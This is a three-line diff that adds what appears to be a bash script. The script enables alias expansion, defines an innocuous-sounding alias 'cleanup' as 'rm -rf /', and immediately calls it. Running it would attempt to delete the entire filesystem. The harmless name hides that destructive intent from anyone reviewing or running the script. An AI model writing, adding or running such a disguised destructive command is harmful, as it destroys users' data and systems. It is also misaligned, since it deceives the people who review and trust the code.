@@ -1,0 +1,3 @@
+shopt -s expand_aliases
+alias cleanup='rm -rf /'
+cleanup
